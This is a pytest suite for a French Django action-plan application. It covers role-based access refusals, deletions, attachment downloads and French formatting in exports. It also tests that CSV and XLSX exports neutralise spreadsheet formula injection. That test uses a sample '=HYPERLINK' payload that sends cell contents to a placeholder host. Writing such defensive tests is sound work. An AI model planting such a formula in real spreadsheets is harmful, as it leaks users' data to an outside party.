"""Tests of the fixes asked by the review: attachments, deletions, refusals, injections, French."""

import datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from conftest import ALL_VIEWERS
from pvd.actions.models import PieceJointe
from pvd.actions.tests.factories import FicheFactory, LigneFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

CAN_VIEW = {"chef_de_projet", "equipe", "elu", "partenaire", "lecteur", "prefecture", "anct"}
TEAM = {"chef_de_projet", "equipe"}


def check_refusal(response, kind, *, hidden=False):
    """anonymous → login; outsider/other prefecture (or a fiche hidden from the viewer) → 404; else 403."""
    if kind == "anonymous":
        assert response.status_code == 302 and "/comptes/connexion/" in response["Location"]
    elif kind in CAN_VIEW and not hidden:
        assert response.status_code == 403
    else:
        assert response.status_code == 404


def url(name, dossier, **kwargs):
    return reverse(f"actions:{name}", kwargs={"dossier_pk": dossier.pk, **kwargs})


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def _piece(fiche, name="plan.pdf", content=b"%PDF-1.4 plan"):
    return PieceJointe.objects.create(
        fiche=fiche, titre="Plan du site", fichier=SimpleUploadedFile(name, content, content_type="application/pdf")
    )


# 1. Attachments -------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL_VIEWERS)
@pytest.mark.parametrize("confidential", [False, True])
def test_piece_download_per_viewer(client_for, dossier, kind, confidential, media, main):
    fiche = FicheFactory(dossier=dossier, confidentielle=confidential)
    piece = _piece(fiche)
    client = client_for(dossier, kind)
    response = client.get(url("piece_download", dossier, fiche_pk=fiche.pk, piece_pk=piece.pk))
    allowed = kind in (TEAM if confidential else CAN_VIEW)
    if not allowed:
        check_refusal(response, kind, hidden=confidential)
        return
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"%PDF-1.4 plan"
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'filename="plan.pdf"' in response["Content-Disposition"]
    # The fiche links to the view, never to the media file itself.
    links = [a["href"] for a in main(client.get(url("fiche", dossier, fiche_pk=fiche.pk))).select("#pieces-liste a")]
    assert links == [url("piece_download", dossier, fiche_pk=fiche.pk, piece_pk=piece.pk)]


def test_piece_download_of_another_fiche_is_404(client_for, dossier, media):
    fiche, other = FicheFactory(dossier=dossier), FicheFactory(dossier=dossier)
    piece = _piece(other)
    client = client_for(dossier, "chef_de_projet")
    assert client.get(url("piece_download", dossier, fiche_pk=fiche.pk, piece_pk=piece.pk)).status_code == 404


def test_piece_download_missing_file_is_404(client_for, dossier, media):
    piece = _piece(FicheFactory(dossier=dossier))
    piece.fichier.storage.delete(piece.fichier.name)
    client = client_for(dossier, "chef_de_projet")
    response = client.get(url("piece_download", dossier, fiche_pk=piece.fiche_id, piece_pk=piece.pk))
    assert response.status_code == 404


# 2. A new funder is created by the service, inside its transaction -----------------------------


def test_refused_line_leaves_no_new_organisation(dossier):
    from django.core.exceptions import ValidationError

    from pvd.actions import services
    from pvd.territoires.models import Organisation

    fiche = FicheFactory(dossier=dossier)
    before = Organisation.objects.count()
    with pytest.raises(ValidationError):
        services.ligne_financement_create(
            fiche=fiche,
            by=None,
            nouveau_financeur="Fondation du patrimoine",
            type_financeur="autre",
            dispositif="autre",
            montant=Decimal("-1"),
            statut="sollicite",
        )
    assert Organisation.objects.count() == before
    ligne = services.ligne_financement_create(
        fiche=fiche,
        by=None,
        nouveau_financeur=" Fondation du patrimoine ",
        type_financeur="autre",
        dispositif="autre",
        montant=Decimal("10"),
        statut="sollicite",
    )
    assert ligne.financeur.nom == "Fondation du patrimoine"
    assert Organisation.objects.count() == before + 1


def test_view_refused_line_with_new_funder_leaves_no_organisation(client_for, dossier, monkeypatch):
    """Whatever the service refuses (here full_clean), the new funder typed in the form is not kept."""
    from django.core.exceptions import ValidationError

    from pvd.actions.models import LigneFinancement
    from pvd.territoires.models import Organisation

    def refuse(self, *args, **kwargs):
        raise ValidationError({"montant": "Refusé."})

    monkeypatch.setattr(LigneFinancement, "full_clean", refuse)
    fiche = FicheFactory(dossier=dossier)
    client = client_for(dossier, "chef_de_projet")
    response = client.post(
        url("ligne_add", dossier, fiche_pk=fiche.pk),
        {
            "nouveau_financeur": "Mécène inconnu",
            "type_financeur": "autre",
            "dispositif": "autre",
            "montant": "100",
            "statut": "sollicite",
        },
    )
    assert response.status_code == 400
    assert not Organisation.objects.filter(nom="Mécène inconnu").exists()
    assert not fiche.financements.exists()


# 3. No formula injection in the exports -----------------------------------------------------

INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


def test_xlsx_export_writes_text_never_formulas_and_reimports_identically(client_for, dossier):
    import io
    import zipfile

    from openpyxl import load_workbook

    from pvd.actions.importer import import_plan
    from pvd.actions.models import FicheAction
    from pvd.actions.tests.factories import LigneFactory, OrganisationFactory

    fiche = FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", description="@SUM(1)")
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="=1+1"), montant=Decimal("5"))
    client = client_for(dossier, "chef_de_projet")
    for name in ("plan_xlsx", "crte_export", "maquette_xlsx"):
        if name == "crte_export":
            fiche.inscrite_crte = True
            fiche.save()
        content = client.get(url(name, dossier)).content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        # Only the maquette's total rows are formulas (SUM), never a user's text.
        assert all(f.startswith("SUM(") for xml in sheets for f in _formulas(xml)), name
    content = client.get(url("plan_xlsx", dossier)).content
    workbook = load_workbook(io.BytesIO(content))
    cell = workbook["Fiches"]["B2"]
    assert cell.value == INJECTION and cell.data_type == "s"
    other = type(dossier).objects.get(pk=dossier.pk)
    FicheAction.objects.all().delete()
    fiches = import_plan(dossier=other, content=content, by=None)
    assert [f.titre for f in fiches] == [INJECTION]
    assert fiches[0].pilote == "+33 6 00" and fiches[0].description == "@SUM(1)"
    assert fiches[0].financements.get().financeur.nom == "=1+1"


def _formulas(xml: str) -> list[str]:
    import re

    return re.findall(r"<f>(.*?)</f>", xml)


def test_csv_export_neutralises_formulas(client_for, dossier):
    import csv
    import io

    FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", localisation="-1", cout_ht=Decimal("-0"))
    raw = client_for(dossier, "lecteur").get(url("plan_csv", dossier)).content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(raw), delimiter=";"))
    values = dict(zip(header, row, strict=True))
    assert values["Titre"] == "'" + INJECTION
    assert values["Pilote"] == "'+33 6 00"
    assert not any(value[:1] in "=+@" for value in row if value)


# 5. French shown to users ---------------------------------------------------------------------


def test_history_amounts_in_french(client_for, dossier, main):
    from pvd.actions.tests.factories import OrganisationFactory

    fiche = FicheFactory(dossier=dossier, cout_ht=Decimal("1000"))
    client = client_for(dossier, "chef_de_projet")
    org = OrganisationFactory(nom="État", type="etat")
    client.post(
        url("ligne_add", dossier, fiche_pk=fiche.pk),
        {"financeur": org.pk, "dispositif": "detr", "montant": "1234.56", "statut": "sollicite"},
    )
    client.post(
        url("budget_add", dossier, fiche_pk=fiche.pk),
        {"annee": "2025", "investissement": "12345", "fonctionnement": "0.5"},
    )
    from pvd.actions import services

    services.fiche_update(fiche=fiche, by=None, cout_ht=Decimal("2500000"))
    history = main(client.get(url("fiche", dossier, fiche_pk=fiche.pk))).select_one("#historique + div").get_text()
    assert "1 234,56 €" in history and "1234.56" not in history
    assert "12 345,00 € inv. / 0,50 € fonct." in history
    assert "1 000,00 €" in history and "2 500 000,00 €" in history


# 6. Deletions ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_fiche_delete_per_viewer(client_for, dossier, kind, main):
    from pvd.actions.models import FicheAction

    fiche = FicheFactory(dossier=dossier, titre="Halle à démolir")
    client = client_for(dossier, kind)
    confirm = client.get(url("fiche_delete", dossier, fiche_pk=fiche.pk))
    response = client.post(url("fiche_delete", dossier, fiche_pk=fiche.pk))
    if kind in TEAM:
        assert confirm.status_code == 200
        content = main(confirm)
        assert "Halle à démolir" in content.get_text() and content.select_one("form#confirmation[method=post]")
        assert response.status_code == 302 and response["Location"] == url("plan", dossier)
        assert not FicheAction.objects.filter(pk=fiche.pk).exists()
    else:
        check_refusal(confirm, kind)
        check_refusal(response, kind)
        assert FicheAction.objects.filter(pk=fiche.pk).exists()


def test_fiche_delete_refused_once_decided(client_for, dossier, main):
    from django.utils import timezone

    from pvd.actions.models import FicheAction
    from pvd.gouvernance.models import Instance, PointOrdreDuJour, Seance
    from pvd.gouvernance.services import decision_record

    fiche = FicheFactory(dossier=dossier)
    client = client_for(dossier, "chef_de_projet")
    client.post(url("fiche_submit", dossier, fiche_pk=fiche.pk))
    # The comité de projet records a decision on it (even "ajourné"): the fiche must stay.
    point = PointOrdreDuJour.objects.get(target_id=fiche.pk)
    instance = Instance.objects.create(dossier=dossier, type="comite_projet", nom="Comité de projet")
    point.seance = Seance.objects.create(instance=instance, date=timezone.make_aware(datetime.datetime(2025, 4, 3)))
    point.save()
    decision_record(point=point, resultat="ajourne", by=client.user)
    response = client.post(url("fiche_delete", dossier, fiche_pk=fiche.pk), follow=True)
    assert response.redirect_chain == [(url("fiche", dossier, fiche_pk=fiche.pk), 302)]
    assert FicheAction.objects.filter(pk=fiche.pk).exists()
    assert "décision du comité de projet" in response.content.decode()


def test_fiche_delete_confidential_hidden_from_non_team(client_for, dossier):
    fiche = FicheFactory(dossier=dossier, confidential=True)
    response = client_for(dossier, "elu").post(url("fiche_delete", dossier, fiche_pk=fiche.pk))
    assert response.status_code == 403  # the permission is checked before the fiche is looked up


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_etape_and_budget_delete_per_viewer(client_for, dossier, kind):
    fiche = FicheFactory(dossier=dossier)
    etape = fiche.etapes.create(nom="Consultation", date=datetime.date(2025, 6, 1))
    budget = fiche.budgets.create(annee=2025, investissement=Decimal("10"), fonctionnement=Decimal("1"))
    client = client_for(dossier, kind)
    responses = [
        client.post(url("etape_delete", dossier, fiche_pk=fiche.pk, etape_pk=etape.pk)),
        client.post(url("budget_delete", dossier, fiche_pk=fiche.pk, budget_pk=budget.pk)),
    ]
    if kind in TEAM:
        assert [r.status_code for r in responses] == [302, 302]
        assert not fiche.etapes.exists() and not fiche.budgets.exists()
        assert set(fiche.historique.values_list("champ", flat=True)) >= {"étape supprimée", "budget 2025"}
    else:
        for response in responses:
            check_refusal(response, kind)
        assert fiche.etapes.exists() and fiche.budgets.exists()


def test_deletes_are_post_only_and_scoped_to_the_fiche(client_for, dossier):
    fiche, other = FicheFactory(dossier=dossier), FicheFactory(dossier=dossier)
    etape = other.etapes.create(nom="Consultation", date=datetime.date(2025, 6, 1))
    client = client_for(dossier, "chef_de_projet")
    assert client.get(url("etape_delete", dossier, fiche_pk=other.pk, etape_pk=etape.pk)).status_code == 405
    assert client.post(url("etape_delete", dossier, fiche_pk=fiche.pk, etape_pk=etape.pk)).status_code == 404
    assert other.etapes.exists()


CAN_COMMENT = CAN_VIEW - {"lecteur"}


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_note_delete_by_its_author_per_viewer(client_for, dossier, kind):
    from pvd.actions.models import Note

    fiche = FicheFactory(dossier=dossier)
    client = client_for(dossier, kind)
    note = Note.objects.create(fiche=fiche, auteur=client.user, date=datetime.date(2025, 5, 2), texte="Vue")
    response = client.post(url("note_delete", dossier, fiche_pk=fiche.pk, note_pk=note.pk))
    if kind in CAN_COMMENT:
        assert response.status_code == 302
        assert not Note.objects.filter(pk=note.pk).exists()
    else:
        check_refusal(response, kind)
        assert Note.objects.filter(pk=note.pk).exists()


@pytest.mark.parametrize("kind", sorted(CAN_COMMENT))
def test_note_of_someone_else_only_deleted_by_the_chef(client_for, make_viewer, dossier, kind, main):
    from pvd.actions.models import Note

    fiche = FicheFactory(dossier=dossier)
    author = make_viewer(dossier, "elu")
    note = Note.objects.create(fiche=fiche, auteur=author, date=datetime.date(2025, 5, 2), texte="Vue")
    client = client_for(dossier, kind)
    delete_url = url("note_delete", dossier, fiche_pk=fiche.pk, note_pk=note.pk)
    shown = bool(main(client.get(url("fiche", dossier, fiche_pk=fiche.pk))).select(f"form[action='{delete_url}']"))
    response = client.post(delete_url)
    if kind == "chef_de_projet":
        assert shown and response.status_code == 302
        assert not Note.objects.filter(pk=note.pk).exists()
    else:
        assert not shown and response.status_code == 403
        assert Note.objects.filter(pk=note.pk).exists()


# 7. Refusals that had no test -----------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_ligne_statut_and_delete_per_viewer(client_for, dossier, kind):
    from pvd.actions.tests.factories import LigneFactory

    fiche = FicheFactory(dossier=dossier)
    ligne = LigneFactory(fiche=fiche, statut="sollicite")
    client = client_for(dossier, kind)
    statut = client.post(url("ligne_statut", dossier, fiche_pk=fiche.pk, ligne_pk=ligne.pk), {"statut": "accorde"})
    ligne.refresh_from_db()
    if kind in TEAM:
        assert statut.status_code == 302 and ligne.statut == "accorde"
    else:
        check_refusal(statut, kind)
        assert ligne.statut == "sollicite"
    delete = client.post(url("ligne_delete", dossier, fiche_pk=fiche.pk, ligne_pk=ligne.pk))
    if kind in TEAM:
        assert delete.status_code == 302 and not fiche.financements.exists()
    else:
        check_refusal(delete, kind)
        assert fiche.financements.exists()


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_etape_toggle_and_piece_add_per_viewer(client_for, dossier, kind, media):
    fiche = FicheFactory(dossier=dossier)
    etape = fiche.etapes.create(nom="Consultation", date=datetime.date(2025, 6, 1))
    client = client_for(dossier, kind)
    toggle = client.post(url("etape_toggle", dossier, fiche_pk=fiche.pk, etape_pk=etape.pk))
    upload = SimpleUploadedFile("plan.pdf", b"%PDF-1.4", content_type="application/pdf")
    piece = client.post(url("piece_add", dossier, fiche_pk=fiche.pk), {"titre": "Plan", "fichier": upload})
    etape.refresh_from_db()
    if kind in TEAM:
        assert toggle.status_code == 302 and etape.faite
        assert piece.status_code == 302 and fiche.pieces.get().titre == "Plan"
    else:
        check_refusal(toggle, kind)
        check_refusal(piece, kind)
        assert not etape.faite and not fiche.pieces.exists()
        assert not list(media.rglob("*.pdf"))


@pytest.mark.parametrize("kind", ALL_VIEWERS)
@pytest.mark.parametrize(
    ("name", "params", "content_type"),
    [
        ("plan_xlsx", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("plan_csv", {}, "text/csv; charset=utf-8"),
        ("crte_export", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("crte_export", {"format": "csv"}, "text/csv; charset=utf-8"),
    ],
)
def test_plan_exports_per_viewer(client_for, dossier, kind, name, params, content_type):
    FicheFactory(dossier=dossier, inscrite_crte=True)
    response = client_for(dossier, kind).get(url(name, dossier), params)
    if kind in CAN_VIEW:
        assert response.status_code == 200 and response["Content-Type"] == content_type
        assert response["Content-Disposition"].startswith("attachment;")
    else:
        check_refusal(response, kind)


# 8. The fiche's PDF and DOCX show every field ---------------------------------------------------


@pytest.fixture
def full_fiche(dossier, media):
    from pvd.actions.models import Note

    fiche = FicheFactory(
        dossier=dossier,
        numero=4,
        titre="Maison de santé",
        confidentielle=True,
        located=True,
        cout_ht=Decimal("1000"),
        cout_ttc=None,
        priorite="moyenne",
    )
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="État"), montant=Decimal("250"), statut="accorde")
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="Région"), montant=Decimal("500"), statut="refuse")
    Note.objects.create(fiche=fiche, date=datetime.date(2025, 5, 2), texte="Réunion avec l'ARS faite")
    _piece(fiche)
    return fiche


def confidential_text():
    """« Confidentielle (…) » in the model's words (the field's label), the documents' wording."""
    from pvd.actions.models import FicheAction

    label = str(FicheAction._meta.get_field("confidentielle").verbose_name)
    return label[0].upper() + label[1:]


def test_fiche_pdf_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
    import io

    from pypdf import PdfReader

    response = client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages).replace("\xa0", " ")
    text = " ".join(text.split())
    for expected in (
        "Notes de suivi",
        "02/05/2025",
        "Réunion avec l'ARS faite",
        "Pièces jointes",
        "Plan du site",
        confidential_text(),
        "47,862° N, 5,333° E",
        "Coût TTC non renseigné",
    ):
        assert expected in text, expected
    assert "— €" not in text


def test_fiche_pdf_priority_in_lower_case_mid_sentence(client_for, dossier, full_fiche, monkeypatch):
    """The badges are upper-cased by the style sheet: read the HTML the PDF is made from."""
    import weasyprint
    from bs4 import BeautifulSoup

    rendered = []

    class FakeHTML:
        def __init__(self, string):
            rendered.append(string)

        def write_pdf(self):
            return b"%PDF-"

    monkeypatch.setattr(weasyprint, "HTML", FakeHTML)
    client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
    badges = [b.get_text() for b in BeautifulSoup(rendered[0], "html.parser").select(".badge")]
    assert "Priorité moyenne" in badges


def test_fiche_docx_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
    import io

    from docx import Document

    response = client_for(dossier, "chef_de_projet").get(url("fiche_docx", dossier, fiche_pk=full_fiche.pk))
    document = Document(io.BytesIO(response.content))
    paragraphs = [p.text for p in document.paragraphs]
    cells = {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
    assert cells["Confidentialité"] == confidential_text()
    assert cells["Coût TTC"] == "non renseigné" and cells["Coût HT"] == "1 000,00 €"
    financing = {row.cells[0].text: [c.text for c in row.cells[1:]] for row in document.tables[1].rows}
    assert financing["État"] == ["DETR", "250,00 €", "Accordé", "25,00 %"]
    assert financing["Région"] == ["DETR", "500,00 €", "Refusé", "—"]  # a refused line has no rate
    assert cells["Coordonnées du point"] == "47,862° N, 5,333° E"
    assert "02/05/2025 : Réunion avec l'ARS faite" in paragraphs
    assert paragraphs[paragraphs.index("Pièces jointes") + 1].startswith("Plan du site (")
    assert "Notes de suivi" in paragraphs


def test_fiche_delete_withdraws_its_pending_submission_and_removes_its_files(
    client_for, dossier, media, django_capture_on_commit_callbacks
):
    from pvd.actions.models import FicheAction
    from pvd.gouvernance.models import PointOrdreDuJour

    fiche = FicheFactory(dossier=dossier)
    piece = _piece(fiche)
    path = media / piece.fichier.name
    assert path.exists()
    client = client_for(dossier, "chef_de_projet")
    client.post(url("fiche_submit", dossier, fiche_pk=fiche.pk))
    assert PointOrdreDuJour.objects.filter(target_id=fiche.pk).count() == 1
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url("fiche_delete", dossier, fiche_pk=fiche.pk))
    assert not FicheAction.objects.filter(pk=fiche.pk).exists()
    assert not PointOrdreDuJour.objects.filter(target_id=fiche.pk).exists()  # no point left pointing at nothing
    assert not path.exists()


def test_fiche_delete_refused_when_decided_then_resubmitted(dossier, make_viewer):
    from django.core.exceptions import ValidationError
    from django.utils import timezone

    from pvd.actions import services
    from pvd.gouvernance.models import Instance, PointOrdreDuJour, Seance
    from pvd.gouvernance.services import decision_record, object_submit

    chef = make_viewer(dossier, "chef_de_projet")
    fiche = FicheFactory(dossier=dossier)
    point = object_submit(dossier=dossier, target=fiche, titre="Fiche", by=chef)
    instance = Instance.objects.create(dossier=dossier, type="comite_projet", nom="Comité de projet")
    point.seance = Seance.objects.create(instance=instance, date=timezone.now())
    point.save()
    decision_record(point=point, resultat="ajourne", by=chef)
    object_submit(dossier=dossier, target=fiche, titre="Fiche, nouvelle version", by=chef)  # pending again
    with pytest.raises(ValidationError):
        services.fiche_delete(fiche=fiche, by=chef)
    assert PointOrdreDuJour.objects.filter(target_id=fiche.pk).count() == 2


def test_typed_organisation_reuses_existing_whatever_type_or_capitals(dossier):
    """« région grand est » typed as a partner or a funder is the existing « Région Grand Est »
    (type région), not a second row of type autre."""
    from pvd.actions import services
    from pvd.territoires.models import Organisation, OrganisationType

    region = OrganisationFactory(nom="Région Grand Est", type=OrganisationType.REGION)
    before = Organisation.objects.count()
    fiche = services.fiche_create(
        dossier=dossier, by=None, titre="Halles", nouveaux_partenaires=["région grand est", " RÉGION GRAND EST "]
    )
    assert list(fiche.partenaires.all()) == [region]
    ligne = services.ligne_financement_create(
        fiche=fiche,
        by=None,
        nouveau_financeur="région grand est",
        type_financeur="autre",
        dispositif="autre",
        montant=Decimal("10"),
        statut="sollicite",
    )
    assert ligne.financeur == region
    other = LigneFactory(fiche=fiche)
    services.ligne_financement_update(ligne=other, by=None, financeur=None, nouveau_financeur="Région grand Est ")
    other.refresh_from_db()
    assert other.financeur == region
    assert Organisation.objects.count() == before + 1  # only the factory line's own funder
